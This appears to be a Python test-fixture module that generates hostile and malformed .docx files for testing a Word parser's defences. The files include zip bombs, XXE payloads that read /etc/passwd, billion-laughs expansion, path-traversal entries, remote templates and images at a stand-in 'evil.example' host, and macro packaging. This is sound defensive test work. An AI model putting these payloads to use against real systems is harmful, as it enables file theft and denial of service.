"""Word files made to harm, and odd ones: made for tests, never kept.

So no virus scanner takes this folder for what it is not.
"""

import re
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.unit.word import sent

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TYPES = (
    f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def document(body: str, head: str = "") -> str:
    return (
        f'{HEAD}{head}<w:document xmlns:w="{W}" xmlns:r="{R}"'
        ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def packed(path: Path, body: str | bytes, more: dict[str, str | bytes] | None = None) -> Path:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": body,
    }  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (parts | (more or {})).items():
            archive.writestr(name, data)
    return path


def bomb(path: Path) -> Path:
    return packed(path, document(""), {"word/media/a.jpeg": bytes(300 << 20)})


def many_entries(path: Path) -> Path:
    with zipfile.ZipFile(packed(path, document("")), "a") as archive:
        for number in range(25_000):
            archive.writestr(f"word/x{number}.xml", "")
    return path


def empty_paragraphs(path: Path) -> Path:
    return packed(path, document("<w:p/>" * 3_000_000))


def many_tags(path: Path) -> Path:
    """Not packed at all, so that no ratio gives it away."""
    with zipfile.ZipFile(packed(path, document("")), "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/big.xml", document("<w:p/>" * 3_000_000))
    relations = RELATIONS.replace("word/document.xml", "word/big.xml")
    return replaced(path, "_rels/.rels", relations.encode())


def replaced(path: Path, name: str, data: bytes) -> Path:
    """The same file with another part, packed as the parts were."""
    with zipfile.ZipFile(path) as old:
        parts = [(info, old.read(info)) for info in old.infolist()]
    with zipfile.ZipFile(path, "w") as new:
        for info, content in parts:
            new.writestr(info, data if info.filename == name else content)
    return path


def huge_part(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("word/document.xml", document(paragraph("a" * (51 << 20))))
    return path


def external_entity(path: Path) -> Path:
    doctype = '<!DOCTYPE w [<!ENTITY stolen SYSTEM "file:///etc/passwd">]>'
    return packed(path, document(paragraph("&stolen;"), doctype))


def billion_laughs(path: Path) -> Path:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]>'
    return packed(path, document(paragraph("&l9;"), doctype))


def entity_in_utf_16(path: Path) -> Path:
    doctype = '<!DOCTYPE w [<!ENTITY stolen SYSTEM "file:///etc/passwd">]>'
    text = document(paragraph("&stolen;"), doctype).replace("UTF-8", "UTF-16")
    return packed(path, text.encode("utf-16"))


def odd_encoding(path: Path) -> Path:
    return packed(path, document("").replace("UTF-8", "UTF-7").encode())


def encrypted(path: Path) -> Path:
    path.write_bytes(OLE + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(9000))
    return path


def old_word(path: Path) -> Path:
    path.write_bytes(OLE + bytes(1000) + "WordDocument".encode("utf-16-le") + bytes(9000))
    return path


def cut_short(path: Path) -> Path:
    sent.headings(path)
    path.write_bytes(path.read_bytes()[:9000])
    return path


def renamed_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("holiday/beach.jpeg", b"\xff\xd8\xff")
    return path


def renamed_bundle(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("ssc/bagit.txt", "BagIt-Version: 1.0\n")
    return path


def workbook(path: Path) -> Path:
    types = TYPES.replace("/word/document.xml", "/xl/workbook.xml").replace(
        "wordprocessingml.document", "spreadsheetml.sheet"
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", RELATIONS.replace("word/document", "xl/workbook"))
        archive.writestr("xl/workbook.xml", f"{HEAD}<workbook/>")
    return path


def twice(path: Path) -> Path:
    packed(path, document(paragraph("one")))
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/document.xml", document(paragraph("two")))
    return path


def locked_entry(path: Path) -> Path:
    packed(path, document(""))
    data = bytearray(path.read_bytes())
    for at in (match.start() for match in re.finditer(rb"PK\x01\x02", bytes(data))):
        data[at + 8] |= 1
    path.write_bytes(bytes(data))
    return path


def wrong_checksum(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("word/document.xml", document(paragraph("one")))
    path.write_bytes(path.read_bytes().replace(b">one<", b">two<"))
    return path


def lying_size(path: Path) -> Path:
    """Says that it is small, and unpacks to 60 MB."""
    packed(path, document(paragraph("a" * (60 << 20))))
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/document.xml"))
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def bytes_of(content: bytes) -> Callable[[Path], Path]:
    def write(path: Path) -> Path:
        path.write_bytes(content)
        return path

    return write


# ---------------------------------------------------------------- odd


def relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (
        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def external_picture(path: Path) -> Path:
    picture = '<w:p><w:r><w:drawing><a:blip r:link="rId1" r:embed="rId1"/></w:drawing></w:r></w:p>'
    body = document(picture + paragraph("Overview: Farmers met."))
    rels = relation("image", "http://evil.example/pixel.png")
    return packed(path, body, {"word/_rels/document.xml.rels": rels})


def attached_template(path: Path) -> Path:
    rels = relation("attachedTemplate", "http://evil.example/macros.dotm")
    return packed(
        path, document(paragraph("Overview: Farmers met.")),
        {"word/_rels/settings.xml.rels": rels, "word/settings.xml": f"{HEAD}<x/>"},
    )  # fmt: skip


def path_outside(path: Path) -> Path:
    return packed(
        path, document(paragraph("Overview: Farmers met.")),
        {
            "../../../../tmp/evil.xml": "<x/>",
            "word/_rels/document.xml.rels": relation(
                "comments", "../../../../../etc/passwd", external=False
            ),
        },
    )  # fmt: skip


def macros(path: Path) -> Path:
    packed(path, document(paragraph("Overview: Farmers met.")), {"word/vbaProject.bin": b"VBA"})
    types = TYPES.replace("wordprocessingml.document.main", "wordprocessingml.macroEnabled.main")
    return replaced(path, "[Content_Types].xml", types.encode())


def strict(path: Path) -> Path:
    body = document(paragraph("Overview: Farmers met."))
    body = body.replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    rels = RELATIONS.replace(R, "http://purl.oclc.org/ooxml/officeDocument/relationships")
    packed(path, body)
    return replaced(path, "_rels/.rels", rels.encode())


def in_utf_16(path: Path) -> Path:
    text = document(paragraph("Overview: Farmers met.")).replace("UTF-8", "UTF-16")
    return packed(path, text.encode("utf-16"))


def broken_end(path: Path) -> Path:
    return packed(path, document(paragraph("Overview: Farmers met."))[:-25])


def backslashes(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        info = zipfile.ZipInfo("word/document.xml")
        info.filename = "word\\document.xml"
        archive.writestr(info, document(paragraph("Overview: Farmers met.")))
    return path


def deep(path: Path) -> Path:
    """Tables in tables, 60 deep: more than anybody makes, less than the parser refuses."""
    inside = paragraph("Overview: Farmers met.")
    for _level in range(60):
        inside = f"<w:tbl><w:tr><w:tc>{inside}<w:p/></w:tc></w:tr></w:tbl>"
    return packed(path, document(inside))


# ---------------------------------------------------------------- heavy


def bookmarks(path: Path) -> Path:
    marks = "".join(
        f'<w:bookmarkStart w:id="{n}" w:name="ssc_f_{n}"/><w:bookmarkEnd w:id="{n}"/>'
        for n in range(100_000)
    )
    return packed(path, document(f"<w:p>{marks}</w:p>{paragraph('Overview: Farmers met.')}"))


def comments(path: Path) -> Path:
    marks = "".join(
        f'<w:commentRangeStart w:id="{n}"/><w:commentRangeEnd w:id="{n}"/>' for n in range(100_000)
    )
    listed = "".join(f'<w:comment w:id="{n}">{paragraph("?")}</w:comment>' for n in range(100_000))
    part = f'{HEAD}<w:comments xmlns:w="{W}">{listed}</w:comments>'
    return packed(
        path, document(f"<w:p>{marks}</w:p>{paragraph('Overview: Farmers met.')}"),
        {
            "word/comments.xml": part,
            "word/_rels/document.xml.rels": relation("comments", "comments.xml", external=False),
        },
    )  # fmt: skip


def very_deep(path: Path) -> Path:
    return packed(path, document("<w:sdt><w:sdtContent>" * 100_000))


def long_attribute(path: Path) -> Path:
    name = "".join(str(n) for n in range(1_500_000))
    return packed(path, document(f'<w:p w:x="{name}"/>{paragraph("Overview: Farmers met.")}'))


def many_runs(path: Path) -> Path:
    """One paragraph of very many runs, which a careless reader joins in quadratic time."""
    runs = "".join(f"<w:r><w:t>word{n} </w:t></w:r>" for n in range(60_000))
    return packed(path, document(f"<w:p>{runs}</w:p>"))


def many_controls(path: Path) -> Path:
    controls = "".join(
        f'<w:sdt><w:sdtPr><w:tag w:val="t{n}"/></w:sdtPr><w:sdtContent><w:r><w:t>{n}</w:t></w:r>'
        "</w:sdtContent></w:sdt>"
        for n in range(20_000)
    )
    return packed(path, document(f"<w:p>{controls}</w:p>"))


def wide_table(path: Path) -> Path:
    row = f"<w:tr>{'<w:tc><w:p/></w:tc>' * 1000}</w:tr>"
    return packed(
        path, document(f"<w:tbl>{''.join(row + '<!-- -->' for _n in range(100))}</w:tbl>")
    )
